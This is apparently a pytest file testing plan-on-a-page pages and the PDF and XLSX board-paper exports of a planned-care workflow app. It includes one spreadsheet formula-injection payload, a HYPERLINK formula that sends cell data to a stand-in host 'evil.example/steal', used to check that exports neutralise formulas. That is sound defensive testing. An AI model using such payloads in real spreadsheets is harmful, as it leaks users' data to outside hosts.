"""The plan on a page (April to March) and the PDF / XLSX exports for board papers."""

from __future__ import annotations

import io
import shutil
import subprocess
from datetime import date

import pytest
from openpyxl import load_workbook

from tests.conftest import csrf_from
from workflow_app.extensions import db
from workflow_app.services.plan_delivery import record_update

pytest_plugins = ["tests.plans.delivery_fixtures"]

INJECTED = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")'


def month(year: int, m: int) -> date:
    return date(year, m, 1)


@pytest.fixture
def reported(delivery_setup, delivery_actuals):
    """The plan with actuals for June to October 2026 and an October update per action."""
    s = delivery_setup
    delivery_actuals(
        s.rtt,
        {
            month(2026, 6): 80.5,
            month(2026, 7): 81,
            month(2026, 8): 84.2,
            month(2026, 9): 85,
            month(2026, 10): 86.4,
        },
    )
    delivery_actuals(s.wait, {month(2026, m): 29 - (m - 6) * 2 for m in range(6, 11)})
    record_update(s.lead, s.actions[0], month(2026, 10), "on_track", "Lists start 5 December")
    record_update(s.lead, s.actions[1], month(2026, 10), "at_risk", INJECTED)
    s.plan.queries = "+44 escalation line for queries"
    db.session.commit()
    return s


def test_plan_on_a_page_shows_april_to_march_plan_against_actual(client, login, reported):
    s = reported
    login(s.lead)
    page = client.get(f"/plans/{s.plan.id}/on-a-page")
    assert page.status_code == 200
    text = page.text
    assert "Plan on a page 2026/27" in text
    assert "April 2026 to March 2027" in text
    for label in ("Apr 2026", "Jun 2026", "Oct 2026", "Mar 2027"):
        assert label in text
    assert "May 2027" not in text and "Mar 2026" not in text
    # Plan against actual, national and local target, and the verdict.
    assert "86.4%" in text and "86%" in text  # October: actual against plan
    assert "92%" in text  # the national target
    assert "25 weeks" in text  # the local target of the wait measure in October
    assert "Met" in text and "Missed" in text  # July 81% against a plan of 82%
    assert "<svg" in text and "plan against actual" in text
    # Headlines, narrative (one paragraph a line), queries / escalations, actions.
    assert "Waits are falling for the third month running." in text
    assert "<p>A second list starts in December.</p>" in text
    assert "+44 escalation line for queries" in text
    assert "Lists start 5 December" in text and "At risk" in text
    assert "On trajectory for" in text or "Missed its trajectory" in text
    # Other years are a link away; the page never loads anything from elsewhere.
    assert "style=" not in text.split("<main")[1]


def test_plan_on_a_page_for_another_financial_year(client, login, reported):
    s = reported
    login(s.lead)
    page = client.get(f"/plans/{s.plan.id}/on-a-page?year=2025")
    assert page.status_code == 200
    assert "Plan on a page 2025/26" in page.text
    assert "Apr 2025" in page.text and "Mar 2026" in page.text


def pdf_text(data: bytes, tmp_path) -> str:
    path = tmp_path / "export.pdf"
    path.write_bytes(data)
    if shutil.which("pdftotext") is None:
        pytest.skip("poppler-utils (pdftotext) is not installed")
    text = subprocess.run(
        ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    return " ".join(text.split())  # table cells wrap: compare words, not lines


def test_plan_on_a_page_pdf(client, login, reported, tmp_path):
    s = reported
    login(s.lead)
    response = client.get(f"/plans/{s.plan.id}/on-a-page.pdf")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert "attachment" in response.headers["Content-Disposition"]
    assert f"plan-{s.plan.id}-on-a-page-2026-27.pdf" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"%PDF")
    text = pdf_text(response.data, tmp_path)
    assert "Plan on a page 2026/27" in text
    assert "Recovery plan for elective waits" in text
    assert "Referral to treatment within 18 weeks" in text
    assert "86.4%" in text
    assert "Funding for weekend lists" not in text  # replaced by the fixture's queries
    assert "+44 escalation line for queries" in text
    if shutil.which("pdftoppm"):
        subprocess.run(
            [
                "pdftoppm",
                "-png",
                "-r",
                "40",
                "-f",
                "1",
                "-l",
                "1",
                str(tmp_path / "export.pdf"),
                str(tmp_path / "page"),
            ],
            check=True,
        )
        (image,) = list(tmp_path.glob("page*.png"))
        assert image.stat().st_size > 1000


def test_whole_plan_pdf(client, login, reported, tmp_path):
    s = reported
    s.plan.summary = "Recover the 18-week position by March."
    s.plan.support_requested = "Two theatre nurses on loan."
    db.session.commit()
    login(s.lead)
    response = client.get(f"/plans/{s.plan.id}/export.pdf")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    text = pdf_text(response.data, tmp_path)
    for expected in (
        "Recovery plan for elective waits",
        "Support requested",
        "Two theatre nurses on loan.",
        "Open a second theatre list on Saturdays",
        "Monthly updates",
    ):
        assert expected in text


def workbook(response):
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    return load_workbook(io.BytesIO(response.data))


def rows(sheet):
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_whole_plan_xlsx_has_actions_trajectory_and_updates_with_formulas_neutralised(
    client, login, reported
):
    s = reported
    login(s.lead)
    book = workbook(client.get(f"/plans/{s.plan.id}/export.xlsx"))
    assert book.sheetnames == ["Plan", "Actions", "Trajectory", "Updates"]

    summary = dict(rows(book["Plan"])[1:])
    assert summary["Plan"] == "Recovery plan for elective waits"
    assert summary["Unit"] == "Planned Care"
    assert summary["Status"] == "In delivery"
    assert summary["Queries and escalations"] == "'+44 escalation line for queries"

    actions = rows(book["Actions"])
    assert actions[0][:3] == ["Number", "Action", "Measure"]
    assert actions[1][1] == "Open a second theatre list on Saturdays"
    assert actions[2][12:] == ["At risk", "'" + INJECTED]
    narrative_cell = book["Actions"].cell(row=3, column=14)
    assert narrative_cell.data_type == "s"  # text, never a formula

    trajectory = rows(book["Trajectory"])
    header = trajectory[0]
    assert header[:6] == ["Measure code", "Measure", "Month", "Plan", "Actual", "Met"]
    october = next(r for r in trajectory[1:] if r[0] == "RTT" and r[2].date() == month(2026, 10))
    assert october[3:6] == [86, 86.4, "Yes"]
    assert october[7] == 92  # national target
    wait_october = next(
        r for r in trajectory[1:] if r[0] == "WAIT" and r[2].date() == month(2026, 10)
    )
    assert wait_october[3:7] == [22, 21, "Yes", 25]  # plan, actual, met, local target

    updates = rows(book["Updates"])
    assert updates[0] == [
        "Action number",
        "Action",
        "Month",
        "Status",
        "Narrative",
        "Updated by",
        "Updated at",
    ]
    assert [(r[0], r[3], r[4]) for r in updates[1:]] == [
        (1, "On track", "Lists start 5 December"),
        (2, "At risk", "'" + INJECTED),
    ]
    assert updates[2][5] == "Lena Lead"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_plan_on_a_page_xlsx_covers_the_financial_year(client, login, reported):
    s = reported
    login(s.lead)
    response = client.get(f"/plans/{s.plan.id}/on-a-page.xlsx?year=2026")
    assert f"plan-{s.plan.id}-on-a-page-2026-27.xlsx" in response.headers["Content-Disposition"]
    book = workbook(response)
    assert book.sheetnames == ["Plan on a page", "Actions", "Trajectory", "Updates"]
    summary = dict(rows(book["Plan on a page"])[1:])
    assert summary["Financial year"] == "2026/27"
    assert summary["Headlines"] == "Waits are falling for the third month running."
    rtt = [r for r in rows(book["Trajectory"])[1:] if r[0] == "RTT"]
    assert [r[2].date() for r in rtt] == [month(2026, m) for m in range(4, 13)] + [
        month(2027, m) for m in range(1, 4)
    ]
    assert [r[3] for r in rtt] == [None, None, 80, 82, 84, 85, 86, 87, 88, 89, 90, 92]
    assert [r[4] for r in rtt] == [None, None, 80.5, 81, 84.2, 85, 86.4, *[None] * 5]


def test_exports_follow_who_may_see_the_plan(client, login, create_person, create_unit, reported):
    s = reported
    paths = [
        f"/plans/{s.plan.id}/{suffix}"
        for suffix in ("on-a-page", "on-a-page.pdf", "on-a-page.xlsx", "export.pdf", "export.xlsx")
    ]
    for path in paths:
        response = client.get(path)
        assert response.status_code == 302 and "/auth/login" in response.headers["Location"]
    other = create_person("directorate_lead")
    create_unit(lead=other)
    login(other)
    for path in paths:
        assert client.get(path).status_code == 404, path
    client.post("/auth/logout", data={"csrf_token": csrf_from(client.get("/").text)})
    login(create_person("committee_member"))
    assert client.get(paths[0]).status_code == 200
    assert client.get(paths[4]).status_code == 200


def test_a_draft_plan_with_nothing_in_it_still_exports(
    client, login, create_person, create_unit, delivery_plan
):
    lead = create_person("directorate_lead")
    unit = create_unit(lead=lead)
    plan = delivery_plan(unit, status="draft", approved_at=None, title="Empty draft")
    login(lead)
    page = client.get(f"/plans/{plan.id}/on-a-page")
    assert page.status_code == 200
    assert "judged against its trajectory once it is approved" in page.text
    assert "The plan targets no measure yet" in page.text
    assert client.get(f"/plans/{plan.id}/updates").status_code == 200  # nothing open yet
    assert "No month is open for updates" in client.get(f"/plans/{plan.id}/updates").text
    for suffix in ("on-a-page.pdf", "export.pdf"):
        assert client.get(f"/plans/{plan.id}/{suffix}").data.startswith(b"%PDF")
    book = workbook(client.get(f"/plans/{plan.id}/export.xlsx"))
    assert rows(book["Actions"]) == [rows(book["Actions"])[0]]
